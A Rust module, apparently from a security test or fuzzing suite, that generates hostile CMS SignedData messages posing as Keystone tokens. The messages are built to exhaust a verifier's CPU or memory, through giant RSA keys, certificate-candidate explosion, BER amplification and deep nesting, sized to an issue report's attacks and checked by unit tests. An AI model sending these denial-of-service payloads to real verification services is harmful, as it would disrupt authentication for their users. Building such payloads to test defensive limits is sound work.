//! Hostile CMS SignedData messages for cmsverify: every message is what an
//! attacker can send as a Keystone token, built to make a verifier do as much
//! work (CPU or memory) as possible *before* it can reject the message. No
//! signature is valid (no cryptography is needed): the point is the work done
//! on the way to the rejection.
//!
//! Every class is one function with its knobs as parameters; the `DEFAULT_*`
//! constants are the attack sizes of the issue report. All functions return a
//! DER (or, for [`ber_amplification`] and indefinite [`deep_nesting`], BER)
//! `ContentInfo` of type SignedData; [`encode`] wraps it as PEM, PKI token or
//! PKIZ token.
//!
//! | class | function | what it attacks |
//! |---|---|---|
//! | a | [`huge_modulus_issuer`], [`huge_exponent_issuer`] | RSA key parsing and precomputation of an embedded issuer certificate's key, before any size check |
//! | b | [`candidate_explosion`] | signer candidates x same-name issuers x SignerInfos: one RSA operation with a large key each |
//! | c | [`ber_amplification`] | the BER to DER normaliser: millions of empty segments of nested constructed OCTET STRINGs, from a ~22 KB PKIZ token |
//! | d | [`many_certificates`] | certificate parsing (and hashing) before the certificate-count limit |
//! | e | [`many_signer_infos`], [`many_signed_attributes`] | SignerInfo and attribute parsing and checking |
//! | f | [`deep_nesting`] | recursive decoders (stack) and nesting limits |
//!
//! Every SignerInfo names one signer by issuer and serial number ([`Sid`]).
//! With [`Sid::from_certificate`] of the real Keystone signing certificate,
//! the verifier also finds that certificate in its certfile, validates its path
//! and reaches the signature check (more work); with [`Sid::default`] it
//! finds only what the message embeds.

pub mod der;
pub mod encode;

use der::tag;

/// The signer identifier (`issuerAndSerialNumber`) of every SignerInfo.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sid {
    /// The DER issuer Name.
    pub issuer: Vec<u8>,
    /// The serial number's magnitude, big-endian.
    pub serial: Vec<u8>,
}

impl Default for Sid {
    /// A made-up signer: issuer `CN=cmsverify attack issuer`, serial 1.
    fn default() -> Self {
        Self {
            issuer: name("cmsverify attack issuer"),
            serial: vec![1],
        }
    }
}

impl Sid {
    /// The issuer and serial of a DER X.509 certificate; `None` if `der` is
    /// not shaped like one.
    pub fn from_certificate(der: &[u8]) -> Option<Self> {
        let (_, cert, _) = der::split(der)?;
        let (_, tbs, _) = der::split(cert)?;
        let (first, _, after_version) = der::split(tbs)?;
        let rest = if first.tag == tag::CTX0 {
            after_version
        } else {
            tbs
        };
        let (_, serial, rest) = der::split(rest)?;
        let (_, _, rest) = der::split(rest)?; // signature algorithm
        let (h, _, after) = der::split(rest)?;
        (h.tag == tag::SEQUENCE).then(|| Self {
            issuer: rest[..rest.len() - after.len()].to_vec(),
            serial: serial[serial.iter().take_while(|&&b| b == 0).count()..].to_vec(),
        })
    }
}

/// An RSA public key of a chosen size: the modulus is `modulus_bytes` bytes
/// of 0xFF (odd, top bit set, compressing to nothing), varied by `index` in
/// two middle bytes so that keys differ; the exponent is `exponent`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RsaKey {
    /// Modulus length in bytes (131072 bytes is 1 Mibit).
    pub modulus_bytes: usize,
    /// Public exponent, big-endian.
    pub exponent: Vec<u8>,
}

impl RsaKey {
    /// A key with exponent 65537.
    pub fn new(modulus_bytes: usize) -> Self {
        Self {
            modulus_bytes,
            exponent: vec![1, 0, 1],
        }
    }

    /// The modulus of the `index`-th key of this shape.
    fn modulus(&self, index: usize) -> Vec<u8> {
        let mut n = vec![0xFF; self.modulus_bytes.max(1)];
        let tag = u16::try_from(index % 0xFFFF).unwrap_or(0).to_be_bytes();
        if n.len() >= 4 {
            let at = n.len() - 3;
            n[at] ^= tag[0];
            n[at + 1] ^= tag[1];
        }
        n
    }

    /// The SubjectPublicKeyInfo of the `index`-th key of this shape.
    fn spki(&self, index: usize) -> Vec<u8> {
        let key = der::seq(&[&der::uint(&self.modulus(index)), &der::uint(&self.exponent)]);
        der::seq(&[&algorithm(RSA_ENCRYPTION, true), &der::bit_string(&key)])
    }
}

/// The encapsulated content (`eContent`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Content {
    /// A primitive OCTET STRING with these bytes.
    Octets(Vec<u8>),
    /// Nested constructed indefinite-length OCTET STRINGs (BER).
    Ber(BerShape),
}

/// The tree of a BER constructed OCTET STRING: `depth` levels of
/// indefinite-length constructed OCTET STRINGs, each holding `fan_out`
/// constructed children, and at the last level `segments` empty primitive
/// segments (`04 00`) each. Total segments: `fan_out^(depth-1) * segments`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct BerShape {
    /// Levels of constructed strings (at least 1).
    pub depth: usize,
    /// Constructed children per constructed string above the last level.
    pub fan_out: usize,
    /// Empty primitive segments in each string of the last level.
    pub segments: usize,
}

impl BerShape {
    /// The attack size: 50 levels (cmsverify's nesting limit is 64 and the
    /// string starts at depth 5), one chain, 8,000,000 empty segments: a
    /// 16,000,426-byte message (under the 16 MiB input and inflation caps)
    /// whose PKIZ token is about 22 KB.
    pub const DEFAULT: Self = Self {
        depth: 50,
        fan_out: 1,
        segments: 8_000_000,
    };

    /// The encoded constructed OCTET STRING.
    pub fn encode(&self) -> Vec<u8> {
        let open = [tag::OCTET_STRING_CONSTRUCTED, 0x80];
        let mut s = Vec::with_capacity(4 + 2 * self.segments);
        s.extend_from_slice(&open);
        for _ in 0..self.segments {
            s.extend_from_slice(&[tag::OCTET_STRING, 0]);
        }
        s.extend_from_slice(&[0, 0]);
        for _ in 1..self.depth {
            let mut up = Vec::with_capacity(4 + s.len() * self.fan_out);
            up.extend_from_slice(&open);
            for _ in 0..self.fan_out {
                up.extend_from_slice(&s);
            }
            up.extend_from_slice(&[0, 0]);
            s = up;
        }
        s
    }
}

/// A deeply nested element: `depth` SEQUENCEs around a NULL, with definite
/// lengths (DER) or BER's indefinite form (4 bytes a level).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Nesting {
    /// Number of nested SEQUENCEs.
    pub depth: usize,
    /// Indefinite lengths (`30 80 ... 00 00`) instead of definite ones.
    pub indefinite: bool,
}

impl Nesting {
    /// The encoded element, built without recursion.
    pub fn encode(&self) -> Vec<u8> {
        let inner = [tag::NULL, 0];
        if self.indefinite {
            let mut out = Vec::with_capacity(4 * self.depth + 2);
            for _ in 0..self.depth {
                out.extend_from_slice(&[tag::SEQUENCE, 0x80]);
            }
            out.extend_from_slice(&inner);
            out.resize(out.len() + 2 * self.depth, 0);
            return out;
        }
        // Content lengths from the innermost SEQUENCE outwards.
        let mut lens = Vec::with_capacity(self.depth);
        let mut len = inner.len();
        for _ in 0..self.depth {
            lens.push(len);
            len += 1 + der::length(len).len();
        }
        let mut out = Vec::with_capacity(len);
        for &l in lens.iter().rev() {
            out.push(tag::SEQUENCE);
            out.extend(der::length(l));
        }
        out.extend_from_slice(&inner);
        out
    }
}

/// Every knob of a message; each attack class is a preset. The fuzz target
/// fills one from its input.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Recipe {
    /// The signer every SignerInfo names.
    pub sid: Sid,
    /// Embedded certificates matching `sid` (same issuer and serial, distinct
    /// subjects), signed with sha256WithRSAEncryption by `sid`'s issuer.
    pub candidates: usize,
    /// Embedded self-issued certificates whose subject is `sid`'s issuer, one
    /// per key: every candidate's possible issuers.
    pub issuers: Vec<RsaKey>,
    /// Small unrelated embedded certificates (Ed25519 keys, distinct serials).
    pub fillers: usize,
    /// Copies of the SignerInfo.
    pub signer_infos: usize,
    /// `None`: no signed attributes. `Some(n)`: contentType, messageDigest
    /// and `n` more attributes.
    pub signed_attributes: Option<usize>,
    /// An unsigned attribute holding this nested value.
    pub nested_attribute: Option<Nesting>,
    /// The encapsulated content.
    pub content: Content,
}

impl Default for Recipe {
    /// One SignerInfo for [`Sid::default`], a short content, nothing else.
    fn default() -> Self {
        Self {
            sid: Sid::default(),
            candidates: 0,
            issuers: Vec::new(),
            fillers: 0,
            signer_infos: 1,
            signed_attributes: None,
            nested_attribute: None,
            content: Content::Octets(b"{\"token\": \"attack\"}".to_vec()),
        }
    }
}

const SIGNED_DATA: &[u64] = &[1, 2, 840, 113549, 1, 7, 2];
const DATA: &[u64] = &[1, 2, 840, 113549, 1, 7, 1];
const SHA256: &[u64] = &[2, 16, 840, 1, 101, 3, 4, 2, 1];
const RSA_ENCRYPTION: &[u64] = &[1, 2, 840, 113549, 1, 1, 1];
const SHA256_WITH_RSA: &[u64] = &[1, 2, 840, 113549, 1, 1, 11];
const ED25519: &[u64] = &[1, 3, 101, 112];
const CONTENT_TYPE: &[u64] = &[1, 2, 840, 113549, 1, 9, 3];
const MESSAGE_DIGEST: &[u64] = &[1, 2, 840, 113549, 1, 9, 4];
/// Arc under which the extra attributes are numbered (a private enterprise arc).
const EXTRA_ATTRIBUTE: &[u64] = &[1, 3, 6, 1, 4, 1, 55555];
const COMMON_NAME: &[u64] = &[2, 5, 4, 3];

/// An AlgorithmIdentifier, with NULL parameters when `null`.
fn algorithm(arcs: &[u64], null: bool) -> Vec<u8> {
    if null {
        der::seq(&[&der::oid(arcs), &[tag::NULL, 0]])
    } else {
        der::seq(&[&der::oid(arcs)])
    }
}

/// The DER Name `CN=<cn>`.
pub fn name(cn: &str) -> Vec<u8> {
    let atv = der::seq(&[
        &der::oid(COMMON_NAME),
        &der::tlv(tag::UTF8_STRING, cn.as_bytes()),
    ]);
    der::seq(&[&der::set(&[&atv])])
}

/// The fields of one embedded certificate.
struct CertFields<'a> {
    serial: &'a [u8],
    issuer: &'a [u8],
    subject: &'a [u8],
    spki: &'a [u8],
    signature_algorithm: &'a [u64],
    signature_len: usize,
    /// Whether it claims to be a CA (critical basicConstraints CA:TRUE), so
    /// that a verifier's cheap issuer checks pass and only key work remains.
    ca: bool,
}

/// `[3] { Extension { basicConstraints, critical, { cA TRUE } } }`.
fn ca_extensions() -> Vec<u8> {
    let boolean_true = der::tlv(0x01, &[0xFF]);
    let basic_constraints = der::seq(&[
        &der::tlv(tag::OID, &[0x55, 0x1D, 0x13]),
        &boolean_true,
        &der::tlv(tag::OCTET_STRING, &der::seq(&[&boolean_true])),
    ]);
    der::tlv(0xA3, &der::seq(&[&basic_constraints]))
}

/// A v3 certificate (extensions only for CAs), valid 2000 to 2049, whose signature
/// is `signature_len` bytes of 0x5A (below any 0xFF... modulus).
fn certificate(f: &CertFields<'_>) -> Vec<u8> {
    let rsa = f.signature_algorithm == SHA256_WITH_RSA;
    let sig_alg = algorithm(f.signature_algorithm, rsa);
    let validity = der::seq(&[
        &der::tlv(tag::UTC_TIME, b"000101000000Z"),
        &der::tlv(tag::UTC_TIME, b"491231235959Z"),
    ]);
    let extensions = if f.ca { ca_extensions() } else { Vec::new() };
    let tbs = der::seq(&[
        &der::tlv(tag::CTX0, &der::uint(&[2])),
        &der::uint(f.serial),
        &sig_alg,
        f.issuer,
        &validity,
        f.subject,
        f.spki,
        &extensions,
    ]);
    der::seq(&[
        &tbs,
        &sig_alg,
        &der::bit_string(&vec![0x5A; f.signature_len]),
    ])
}

impl Recipe {
    /// The embedded certificates, candidates first, then issuers, then fillers.
    fn certificates(&self) -> Vec<Vec<u8>> {
        let signature_len = self
            .issuers
            .iter()
            .map(|k| k.modulus_bytes)
            .min()
            .unwrap_or(256)
            .clamp(1, 2048);
        let candidate_key = RsaKey::new(256).spki(0);
        let mut certs = Vec::with_capacity(self.candidates + self.issuers.len() + self.fillers);
        for i in 0..self.candidates {
            certs.push(certificate(&CertFields {
                serial: &self.sid.serial,
                issuer: &self.sid.issuer,
                subject: &name(&format!("candidate {i}")),
                spki: &candidate_key,
                signature_algorithm: SHA256_WITH_RSA,
                signature_len,
                ca: false,
            }));
        }
        for (i, key) in self.issuers.iter().enumerate() {
            let serial = (u64::try_from(i).unwrap_or(0) + 0x1_0000).to_be_bytes();
            certs.push(certificate(&CertFields {
                serial: &serial,
                issuer: &self.sid.issuer,
                subject: &self.sid.issuer,
                spki: &key.spki(i),
                signature_algorithm: SHA256_WITH_RSA,
                signature_len: 64,
                ca: true,
            }));
        }
        let filler_name = name("filler");
        let filler_key = der::seq(&[&algorithm(ED25519, false), &der::bit_string(&[0x11; 32])]);
        for i in 0..self.fillers {
            let serial = (u64::try_from(i).unwrap_or(0) + 0x100_0000).to_be_bytes();
            certs.push(certificate(&CertFields {
                serial: &serial,
                issuer: &filler_name,
                subject: &filler_name,
                spki: &filler_key,
                signature_algorithm: ED25519,
                signature_len: 64,
                ca: false,
            }));
        }
        certs
    }

    /// The SignerInfo every copy repeats.
    fn signer_info(&self) -> Vec<u8> {
        let sid = der::seq(&[&self.sid.issuer, &der::uint(&self.sid.serial)]);
        let signed = self.signed_attributes.map(|extra| {
            let mut attrs = vec![
                attribute(&der::oid(CONTENT_TYPE), &der::oid(DATA)),
                attribute(&der::oid(MESSAGE_DIGEST), &der::octets(&[0; 32])),
            ];
            for i in 0..extra {
                let mut arcs = EXTRA_ATTRIBUTE.to_vec();
                arcs.push(u64::try_from(i).unwrap_or(0));
                attrs.push(attribute(&der::oid(&arcs), &[tag::NULL, 0]));
            }
            der::tlv(tag::CTX0, &attrs.concat())
        });
        let unsigned = self.nested_attribute.map(|n| {
            let mut arcs = EXTRA_ATTRIBUTE.to_vec();
            arcs.push(0);
            der::tlv(0xA1, &attribute(&der::oid(&arcs), &n.encode()))
        });
        der::seq(&[
            &der::uint(&[1]),
            &sid,
            &algorithm(SHA256, false),
            signed.as_deref().unwrap_or_default(),
            &algorithm(SHA256_WITH_RSA, true),
            &der::octets(&[0x5A; 256]),
            unsigned.as_deref().unwrap_or_default(),
        ])
    }

    /// The ContentInfo (DER unless the content or nesting is BER).
    pub fn build(&self) -> Vec<u8> {
        let content = match &self.content {
            Content::Octets(bytes) => der::octets(bytes),
            Content::Ber(shape) => shape.encode(),
        };
        let encap = der::seq(&[&der::oid(DATA), &der::tlv(tag::CTX0, &content)]);
        let certs = self.certificates();
        let certs = if certs.is_empty() {
            Vec::new()
        } else {
            der::tlv(tag::CTX0, &certs.concat())
        };
        let signer_info = self.signer_info();
        let signer_infos = der::tlv(tag::SET, &signer_info.repeat(self.signer_infos));
        let signed_data = der::seq(&[
            &der::uint(&[1]),
            &der::set(&[&algorithm(SHA256, false)]),
            &encap,
            &certs,
            &signer_infos,
        ]);
        der::seq(&[&der::oid(SIGNED_DATA), &der::tlv(tag::CTX0, &signed_data)])
    }
}

/// One Attribute with a single value.
fn attribute(oid: &[u8], value: &[u8]) -> Vec<u8> {
    der::seq(&[oid, &der::set(&[value])])
}

/// Class a: 1 Mibit, the largest modulus of [`huge_modulus_issuer`] in the report.
pub const DEFAULT_HUGE_MODULUS_BYTES: usize = 131_072;
/// A modulus of exactly 16384 bits, OpenSSL's `OPENSSL_RSA_MAX_MODULUS_BITS`.
pub const RSA_16384_BITS_BYTES: usize = 2048;
/// A modulus of 16392 bits, just over OpenSSL's limit.
pub const RSA_16392_BITS_BYTES: usize = 2049;

/// Class a: one embedded signer certificate matching `sid`, issued (by name)
/// by one embedded certificate whose RSA modulus is `modulus_bytes` bytes of
/// 0xFF (default [`DEFAULT_HUGE_MODULUS_BYTES`]); checking the signer
/// certificate's signature means parsing, and perhaps precomputing, that key.
pub fn huge_modulus_issuer(sid: &Sid, modulus_bytes: usize) -> Vec<u8> {
    huge_exponent_issuer(sid, modulus_bytes, 0)
}

/// Class a, exponent variant: a 16384-bit exponent (2048 bytes of 0xFF).
pub const DEFAULT_HUGE_EXPONENT_BYTES: usize = 2048;

/// Class a with a huge public exponent: like [`huge_modulus_issuer`], the
/// issuer key's exponent being `exponent_bytes` bytes of 0xFF (0 means
/// 65537; default [`DEFAULT_HUGE_EXPONENT_BYTES`]; 8 bytes is 2^64 - 1,
/// OpenSSL's largest for moduli over 3072 bits).
pub fn huge_exponent_issuer(sid: &Sid, modulus_bytes: usize, exponent_bytes: usize) -> Vec<u8> {
    let mut key = RsaKey::new(modulus_bytes);
    if exponent_bytes > 0 {
        key.exponent = vec![0xFF; exponent_bytes];
    }
    Recipe {
        sid: sid.clone(),
        candidates: 1,
        issuers: vec![key],
        ..Recipe::default()
    }
    .build()
}

/// Class b: signer candidates (certificates matching the signer identifier).
pub const DEFAULT_CANDIDATES: usize = 900;
/// Class b: same-name issuers, one under cmsverify's budget of 100 signature
/// checks per path search (exhausting it ends the whole verification), so
/// that every candidate gets its full search; 900 + 99 stays under the
/// 1024-certificate limit.
pub const DEFAULT_ISSUERS: usize = 99;
/// Class b: issuer modulus, 16384 bits (the largest the `rsa` crate accepts).
pub const DEFAULT_ISSUER_MODULUS_BYTES: usize = RSA_16384_BITS_BYTES;
/// Class b: SignerInfos (cmsverify's limit is 16).
pub const DEFAULT_SIGNERS: usize = 16;

/// Class b: `candidates` embedded certificates matching `sid` and `issuers`
/// same-name issuer certificates with distinct `issuer_modulus_bytes`-byte
/// RSA keys, named by `signer_infos` SignerInfos: up to
/// signers x candidates x issuers RSA operations with large keys.
pub fn candidate_explosion(
    sid: &Sid,
    candidates: usize,
    issuers: usize,
    issuer_modulus_bytes: usize,
    signer_infos: usize,
) -> Vec<u8> {
    Recipe {
        sid: sid.clone(),
        candidates,
        issuers: vec![RsaKey::new(issuer_modulus_bytes); issuers],
        signer_infos,
        ..Recipe::default()
    }
    .build()
}

/// Class c: the eContent is the constructed OCTET STRING tree `shape`
/// (default [`BerShape::DEFAULT`]); it normalises to an empty string.
pub fn ber_amplification(sid: &Sid, shape: BerShape) -> Vec<u8> {
    Recipe {
        sid: sid.clone(),
        content: Content::Ber(shape),
        ..Recipe::default()
    }
    .build()
}

/// Class d: embedded certificates, far over cmsverify's 1024 limit.
pub const DEFAULT_MANY_CERTIFICATES: usize = 5000;

/// Class d: `count` small distinct certificates (about 250 bytes each) embedded.
pub fn many_certificates(sid: &Sid, count: usize) -> Vec<u8> {
    Recipe {
        sid: sid.clone(),
        fillers: count,
        ..Recipe::default()
    }
    .build()
}

/// Class e: SignerInfos, far over cmsverify's limit of 16.
pub const DEFAULT_MANY_SIGNER_INFOS: usize = 1000;

/// Class e: `count` identical SignerInfos naming `sid` (with a few signed attributes).
pub fn many_signer_infos(sid: &Sid, count: usize) -> Vec<u8> {
    Recipe {
        sid: sid.clone(),
        signer_infos: count,
        signed_attributes: Some(0),
        ..Recipe::default()
    }
    .build()
}

/// Class e: signed attributes in one SignerInfo.
pub const DEFAULT_MANY_SIGNED_ATTRIBUTES: usize = 10_000;

/// Class e: one SignerInfo with contentType, messageDigest and `count` more
/// signed attributes (distinct OIDs, NULL values).
pub fn many_signed_attributes(sid: &Sid, count: usize) -> Vec<u8> {
    Recipe {
        sid: sid.clone(),
        signed_attributes: Some(count),
        ..Recipe::default()
    }
    .build()
}

/// Class f: nested SEQUENCEs.
pub const DEFAULT_NESTING_DEPTH: usize = 10_000;

/// Class f: an unsigned attribute whose value is `depth` nested SEQUENCEs
/// (definite lengths, or indefinite when `indefinite`).
pub fn deep_nesting(sid: &Sid, depth: usize, indefinite: bool) -> Vec<u8> {
    Recipe {
        sid: sid.clone(),
        nested_attribute: Some(Nesting { depth, indefinite }),
        ..Recipe::default()
    }
    .build()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashMap;

    /// What a full BER walk of one element saw.
    #[derive(Default)]
    struct Stats {
        /// Elements per tag.
        tags: HashMap<u8, usize>,
        /// Deepest nesting (the outer element is depth 1).
        depth: usize,
    }

    /// Walks the element at the start of `bytes`; returns its encoded length.
    fn walk(bytes: &[u8], depth: usize, stats: &mut Stats) -> usize {
        let h = der::header(bytes).expect("header");
        *stats.tags.entry(h.tag).or_default() += 1;
        stats.depth = stats.depth.max(depth);
        let mut pos = h.header_len;
        match h.len {
            Some(len) if !h.is_constructed() => {
                assert!(bytes.len() >= pos + len, "truncated primitive");
                pos + len
            }
            Some(len) => {
                let end = pos + len;
                while pos < end {
                    pos += walk(&bytes[pos..end], depth + 1, stats);
                }
                assert_eq!(pos, end, "children overrun their parent");
                end
            }
            None => {
                assert!(h.is_constructed(), "indefinite primitive");
                while !bytes[pos..].starts_with(&[0, 0]) {
                    pos += walk(&bytes[pos..], depth + 1, stats);
                }
                pos + 2
            }
        }
    }

    /// Walks a whole message, checking it is one ContentInfo of SignedData
    /// (on a thread with a stack large enough for 10,000 levels in debug builds).
    fn stats(message: &[u8]) -> Stats {
        let s = std::thread::scope(|scope| {
            std::thread::Builder::new()
                .stack_size(256 << 20)
                .spawn_scoped(scope, || {
                    let mut s = Stats::default();
                    assert_eq!(walk(message, 1, &mut s), message.len(), "trailing bytes");
                    s
                })
                .unwrap()
                .join()
                .unwrap()
        });
        let (_, ci, _) = der::split(message).unwrap();
        assert!(ci.starts_with(&der::oid(SIGNED_DATA)));
        s
    }

    fn count(s: &Stats, tag: u8) -> usize {
        s.tags.get(&tag).copied().unwrap_or(0)
    }

    /// How often `needle` occurs in `haystack` (overlaps counted).
    fn occurrences(haystack: &[u8], needle: &[u8]) -> usize {
        haystack
            .windows(needle.len())
            .filter(|w| *w == needle)
            .count()
    }

    #[test]
    fn default_recipe_is_der() {
        let m = Recipe::default().build();
        let s = stats(&m);
        // digestAlgorithms, signerInfos and the RDN of the sid's issuer.
        assert_eq!(count(&s, tag::SET), 3);
    }

    #[test]
    fn huge_modulus_is_as_claimed() {
        let sid = Sid::default();
        for (bytes, bits) in [
            (DEFAULT_HUGE_MODULUS_BYTES, 1 << 20),
            (RSA_16384_BITS_BYTES, 16384),
            (RSA_16392_BITS_BYTES, 16392),
        ] {
            let m = huge_modulus_issuer(&sid, bytes);
            stats(&m);
            // The modulus INTEGER: a 0x00 sign octet, then `bits` bits of 0xFF...
            let header = [
                &[tag::INTEGER][..],
                &der::length(bytes + 1),
                &[0, 0xFF, 0xFF],
            ]
            .concat();
            assert_eq!(occurrences(&m, &header), 1);
            assert_eq!(bytes * 8, bits);
        }
        let m = huge_exponent_issuer(&sid, RSA_16384_BITS_BYTES, DEFAULT_HUGE_EXPONENT_BYTES);
        stats(&m);
        // Modulus and exponent are both 2048 bytes of (mostly) 0xFF.
        assert_eq!(occurrences(&m, &[0x02, 0x82, 0x08, 0x01, 0x00, 0xFF]), 2);
        assert!(to_pkiz_len(&huge_modulus_issuer(&sid, DEFAULT_HUGE_MODULUS_BYTES)) < 2000);
    }

    fn to_pkiz_len(m: &[u8]) -> usize {
        encode::to_pkiz_token(m).len()
    }

    #[test]
    fn candidate_explosion_has_its_counts() {
        let sid = Sid::default();
        let m = candidate_explosion(&sid, 30, 7, 256, 5);
        let s = stats(&m);
        assert_eq!(occurrences(&m, b"candidate "), 30);
        assert_eq!(occurrences(&m, &sid.serial_sid()), 5, "one per SignerInfo");
        // Issuers carry the sid's issuer name twice (self-issued), candidates once.
        assert_eq!(occurrences(&m, &sid.issuer), 5 + 30 + 2 * 7);
        assert_eq!(count(&s, tag::BIT_STRING), 2 * (30 + 7));
        let full = candidate_explosion(
            &sid,
            DEFAULT_CANDIDATES,
            DEFAULT_ISSUERS,
            DEFAULT_ISSUER_MODULUS_BYTES,
            DEFAULT_SIGNERS,
        );
        assert_eq!(occurrences(&full, b"candidate "), DEFAULT_CANDIDATES);
        const { assert!(DEFAULT_CANDIDATES + DEFAULT_ISSUERS <= 1024) };
    }

    #[test]
    fn issuer_keys_differ() {
        let k = RsaKey::new(256);
        assert_ne!(k.modulus(0), k.modulus(1));
        assert!(k.modulus(7).last() == Some(&0xFF) && k.modulus(7)[0] == 0xFF);
    }

    #[test]
    fn ber_shape_counts_segments() {
        let shape = BerShape {
            depth: 4,
            fan_out: 3,
            segments: 5,
        };
        let m = ber_amplification(&Sid::default(), shape);
        let s = stats(&m);
        assert_eq!(count(&s, tag::OCTET_STRING_CONSTRUCTED), 1 + 3 + 9 + 27);
        // 27 * 5 segments, plus the SignerInfo's signature and messageDigest-free default.
        assert_eq!(count(&s, tag::OCTET_STRING), 27 * 5 + 1);
        // ContentInfo, [0], SignedData, encapContentInfo, [0], 4 levels, segments.
        assert_eq!(s.depth, 5 + 4 + 1);
    }

    #[test]
    fn ber_default_fits_the_caps_and_a_small_token() {
        let m = ber_amplification(&Sid::default(), BerShape::DEFAULT);
        assert!(m.len() < 16 << 20, "{}", m.len());
        assert!(m.len() > 15 << 20);
        let pkiz = to_pkiz_len(&m);
        assert!(pkiz < 25_000, "{pkiz}");
    }

    #[test]
    fn many_certificates_and_signers_and_attributes() {
        let sid = Sid::default();
        let m = many_certificates(&sid, DEFAULT_MANY_CERTIFICATES);
        stats(&m);
        assert_eq!(occurrences(&m, &[0x11; 32]), DEFAULT_MANY_CERTIFICATES);
        let pkiz = to_pkiz_len(&m);
        assert!(pkiz < 100_000, "{pkiz}");

        let m = many_signer_infos(&sid, DEFAULT_MANY_SIGNER_INFOS);
        stats(&m);
        assert_eq!(
            occurrences(&m, &sid.serial_sid()),
            DEFAULT_MANY_SIGNER_INFOS
        );

        let m = many_signed_attributes(&sid, DEFAULT_MANY_SIGNED_ATTRIBUTES);
        let s = stats(&m);
        // contentType's value, data in encapContentInfo, the extra attributes...
        assert!(count(&s, tag::OID) > DEFAULT_MANY_SIGNED_ATTRIBUTES);
        assert_eq!(count(&s, tag::NULL), DEFAULT_MANY_SIGNED_ATTRIBUTES + 1);
    }

    #[test]
    fn deep_nesting_is_deep() {
        for indefinite in [false, true] {
            let m = deep_nesting(&Sid::default(), DEFAULT_NESTING_DEPTH, indefinite);
            let s = stats(&m);
            assert!(s.depth > DEFAULT_NESTING_DEPTH, "{}", s.depth);
            assert!(count(&s, tag::SEQUENCE) > DEFAULT_NESTING_DEPTH);
        }
    }

    #[test]
    fn sid_reads_back_from_a_certificate() {
        let sid = Sid {
            issuer: name("someone"),
            serial: vec![0x10, 0x01],
        };
        let m = candidate_explosion(&sid, 1, 0, 256, 1);
        let (_, ci, _) = der::split(&m).unwrap();
        let (_, _, rest) = der::split(ci).unwrap();
        let (_, explicit, _) = der::split(rest).unwrap();
        let (_, sd, _) = der::split(explicit).unwrap();
        // version, digestAlgorithms, encapContentInfo, then [0] certificates.
        let (_, _, rest) = der::split(sd).unwrap();
        let (_, _, rest) = der::split(rest).unwrap();
        let (_, _, rest) = der::split(rest).unwrap();
        let (_, certs, _) = der::split(rest).unwrap();
        assert_eq!(Sid::from_certificate(certs), Some(sid));
    }

    impl Sid {
        /// The encoded issuerAndSerialNumber, as SignerInfos carry it.
        fn serial_sid(&self) -> Vec<u8> {
            der::seq(&[&self.issuer, &der::uint(&self.serial)])
        }
    }
}
